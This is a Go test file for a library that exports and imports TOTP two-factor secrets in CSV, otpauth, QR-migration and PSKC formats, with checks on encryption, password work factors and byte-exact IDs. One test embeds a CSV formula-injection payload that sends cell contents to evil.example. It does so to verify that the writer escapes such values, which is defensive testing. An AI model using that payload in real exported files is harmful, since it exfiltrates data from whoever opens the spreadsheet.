package factorfile_test

import (
	"bytes"
	"errors"
	"io"
	"strings"
	"testing"
	"time"

	"filippo.io/age/armor"
	"github.com/google/go-cmp/cmp"
	"pgregory.net/rapid"

	"github.com/countersign/countersign/service/factorfile"
)

func TestWhatIsWrittenIsReadAgain(t *testing.T) {
	t.Parallel()
	name := rapid.StringMatching(`[a-zA-Z0-9_.@:|/%&=+#?,;"'\\<>äß€-][ a-zA-Z0-9_.@:|/%&=+#?,;"'\\<>äß€-]{0,30}[a-z@:%&+\\"]`)
	// Blanks at the ends of an id are its own, and none is a formula for a spreadsheet.
	id := rapid.Map(rapid.SliceOfN(rapid.SampledFrom([]string{" ", "\u00a0", "'", "=", "@", "-", "\"", ",", "#", "\\", "ß", "x", "20", ":", "uid="}), 1, 6),
		func(parts []string) string { return strings.Join(parts, "") })
	record := rapid.Custom(func(t *rapid.T) factorfile.Record {
		return factorfile.Record{
			UserID:    rapid.OneOf(name, id).Draw(t, "user"),
			Secret:    factorfile.NewSecret(rapid.SliceOfN(rapid.Byte(), 10, 64).Draw(t, "secret")),
			Algorithm: rapid.SampledFrom([]string{"SHA1", "SHA256", "SHA512"}).Draw(t, "algorithm"),
			Digits:    rapid.SampledFrom([]int{6, 8}).Draw(t, "digits"),
			Period:    time.Duration(rapid.IntRange(15, 120).Draw(t, "period")) * time.Second,
			Name:      rapid.OneOf(rapid.Just(""), name).Draw(t, "name"),
		}
	})
	rapid.Check(t, func(rt *rapid.T) {
		records := rapid.SliceOfN(record, 1, 5).Draw(rt, "records")
		for _, f := range factorfile.WrittenFormats() {
			o := factorfile.Options{Plain: true, Issuer: rapid.OneOf(rapid.Just(""), name).Draw(rt, "issuer")}
			if f == factorfile.PSKC && rapid.Bool().Draw(rt, "encrypted") {
				o = factorfile.Options{Key: factorfile.NewSecret(bytes.Repeat([]byte{1}, 32))}
			}
			var text bytes.Buffer
			if err := factorfile.Write(f, &text, all(records), o); err != nil {
				rt.Fatal(err)
			}
			got, err := readAll(f, text.String(), o)
			if err != nil {
				rt.Fatalf("%s: %v", f, err)
			}
			for i := range got {
				want := records[i]
				if f == factorfile.OTPAuth {
					want.Name = ""
				}
				got[i].Number, got[i].Username, got[i].Email = 0, "", ""
				if diff := cmp.Diff(want, got[i], bySecret); diff != "" {
					rt.Fatalf("%s: -want +got:\n%s\n%s", f, diff, text.String())
				}
			}
			if len(got) != len(records) {
				rt.Fatalf("%s: %d of %d records", f, len(got), len(records))
			}
		}
	})
}

func TestAFileIsEncryptedUnlessOneAsksForPlain(t *testing.T) {
	t.Parallel()
	for _, f := range factorfile.WrittenFormats() {
		if err := factorfile.Write(f, io.Discard, all(three()), factorfile.Options{}); err == nil || !strings.Contains(err.Error(), "password") {
			t.Errorf("%s without a password: %v", f, err)
		}
		text := write(t, f, three(), factorfile.Options{Password: secret(password)})
		for _, form := range []string{rfc6238Text, "GEZDGNBV", "MTIzNDU2", rfc6238[:8]} {
			if strings.Contains(text, form) {
				t.Errorf("%s: a secret is readable", f)
			}
		}
		if _, err := readAll(f, text, factorfile.Options{}); !errors.Is(err, factorfile.ErrPasswordNeeded) {
			t.Errorf("%s: read without a password: %v", f, err)
		}
		if got, err := readAll(f, text, factorfile.Options{Password: secret("another password")}); len(got) > 0 || !errors.Is(err, factorfile.ErrWrongPassword) {
			t.Errorf("%s: read with a wrong password: %v, %v", f, got, err)
		}
		if got := read(t, f, text, factorfile.Options{Password: secret(password)}); len(got) != 3 || got[0].Refusal != nil || got[0].UserID != "alice" {
			t.Errorf("%s: %+v", f, got)
		}
	}
}

func TestAGuessAtAPasswordTakesASecond(t *testing.T) {
	t.Parallel()
	if factorfile.AgeWork < 18 || factorfile.PSKCIterations < 600_000 {
		t.Errorf("scrypt does 2^%d, PBKDF2 %d", factorfile.AgeWork, factorfile.PSKCIterations)
	}
}

func TestAFileThatAgeEncryptedIsReadInArmorTooAndNotWhenItIsCut(t *testing.T) {
	t.Parallel()
	o := factorfile.Options{Password: secret(password)}
	whole := write(t, factorfile.CSV, three(), o)
	var text bytes.Buffer
	w := armor.NewWriter(&text)
	if _, err := io.WriteString(w, whole); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	if got := read(t, factorfile.CSV, text.String(), o); len(got) != 3 {
		t.Errorf("%+v", got)
	}
	var mistake *factorfile.FileError
	if _, err := readAll(factorfile.CSV, whole[:len(whole)-1], o); !errors.As(err, &mistake) {
		t.Errorf("a file that was cut: %v", err)
	}
	if _, err := readAll(factorfile.OTPAuth, whole, o); err == nil || !strings.Contains(err.Error(), "--from csv") {
		t.Errorf("the kind of what is encrypted: %v", err)
	}
}

// What somebody who wants to keep a computer busy says of the work in the header.
func TestAFileThatAgeEncryptedWithMoreWorkThanIsUsualIsRefused(t *testing.T) {
	t.Parallel()
	o := factorfile.Options{Password: secret(password)}
	text := change(t, write(t, factorfile.CSV, three(), o), `-> scrypt \S+ (10)\n`, func(string) string { return "19" })
	if _, err := readAll(factorfile.CSV, text, o); err == nil || !strings.Contains(err.Error(), "work factor above 18") {
		t.Error(err)
	}
}

// Members choose what their devices are called, and the operator opens the file.
func TestNoTextOfTheCSVIsAFormulaForASpreadsheet(t *testing.T) {
	t.Parallel()
	const formula = `=WEBSERVICE("https://evil.example/?"&A1)`
	records := []factorfile.Record{
		with(three()[0], func(r *factorfile.Record) { r.UserID, r.Username, r.Email, r.Name = formula, "+49", "@x", "-1" }),
		with(three()[0], func(r *factorfile.Record) { r.UserID, r.Username, r.Email, r.Name = "'@x", "'", "'' =", "''=1" }),
	}
	text := write(t, factorfile.CSV, records, factorfile.Options{Plain: true})
	if want := `"'` + strings.ReplaceAll(formula, `"`, `""`) + `",'+49,'@x,`; !strings.Contains(text, "\n"+want) || !strings.Contains(text, ",'-1\n") {
		t.Errorf("%s is not in\n%s", want, text)
	}
	got := read(t, factorfile.CSV, text, factorfile.Options{})
	for i := range got {
		got[i].Number = records[i].Number
	}
	compare(t, records, got)
}

// An id that ends in a blank is another one's.
func TestIDsAreReadByteByByte(t *testing.T) {
	t.Parallel()
	for _, f := range []struct {
		format factorfile.Format
		text   string
	}{
		{factorfile.CSV, "user_id,secret\n x ," + rfc6238Text + "\n"},
		{factorfile.CSV, "secret,user_id\n" + rfc6238Text + ", x \n"},
		{factorfile.CSV, "user_id,secret\n\" x \"," + rfc6238Text + " \n"},
		{factorfile.OTPAuth, "otpauth://totp/%20x%20?secret=" + rfc6238Text},
		{factorfile.OTPAuthMigration, qrCode(t, 1, 0, parameters{rfc6238, " x ", "", 1, 1, 2})},
		{factorfile.PSKC, strings.Replace(write(t, factorfile.PSKC, three()[:1], factorfile.Options{Plain: true}), "UID=alice", " x ", 1)},
		{factorfile.PSKC, strings.Replace(write(t, factorfile.PSKC, three()[:1], factorfile.Options{Plain: true}), "UID=alice", ` UID= \20x\20 , DC=example`, 1)},
	} {
		if got := read(t, f.format, f.text, factorfile.Options{}); len(got) != 1 || got[0].UserID != " x " || got[0].Username != "x" && f.format != factorfile.CSV {
			t.Errorf("%s: %+v", f.text, got)
		}
	}
}

func TestARecordThatWouldNotBeReadIsNotWritten(t *testing.T) {
	t.Parallel()
	for name, change := range map[string]func(*factorfile.Record){
		"refused":   func(r *factorfile.Record) { r.Refusal = &factorfile.Refusal{Field: "x"} },
		"no user":   func(r *factorfile.Record) { r.UserID = "" },
		"line feed": func(r *factorfile.Record) { r.UserID = "a\nb" },
		"no secret": func(r *factorfile.Record) { r.Secret = factorfile.Secret{} },
		"short":     func(r *factorfile.Record) { r.Secret = secret("short") },
		"hash":      func(r *factorfile.Record) { r.Algorithm = "MD5" },
		"digits":    func(r *factorfile.Record) { r.Digits = 7 },
		"period":    func(r *factorfile.Record) { r.Period = 0 },
		"half":      func(r *factorfile.Record) { r.Period += time.Millisecond },
	} {
		for _, f := range factorfile.WrittenFormats() {
			record := with(three()[0], change)
			if err := factorfile.Write(f, io.Discard, all([]factorfile.Record{record}), factorfile.Options{Plain: true}); err == nil {
				t.Errorf("%s: %s is written", f, name)
			}
		}
	}
	if err := factorfile.Write(factorfile.Keycloak, io.Discard, all(nil), factorfile.Options{Plain: true}); err == nil {
		t.Error("a format that is only read is written")
	}
}

func TestAMistakeOnTheWayEndsWriting(t *testing.T) {
	t.Parallel()
	lost := errors.New("the database is gone")
	broken := func(yield func(factorfile.Record, error) bool) {
		_ = yield(three()[0], nil) && yield(factorfile.Record{}, lost)
	}
	for _, f := range factorfile.WrittenFormats() {
		if err := factorfile.Write(f, io.Discard, broken, factorfile.Options{Plain: true}); !errors.Is(err, lost) {
			t.Errorf("%s: %v", f, err)
		}
		for _, o := range []factorfile.Options{{Plain: true}, {Password: secret(password)}} {
			full := &brokenWriter{err: lost}
			if err := factorfile.Write(f, full, all(three()), o); !errors.Is(err, lost) {
				t.Errorf("%s to a full disk: %v", f, err)
			}
		}
	}
}

type brokenWriter struct{ err error }

func (b *brokenWriter) Write([]byte) (int, error) { return 0, b.err }
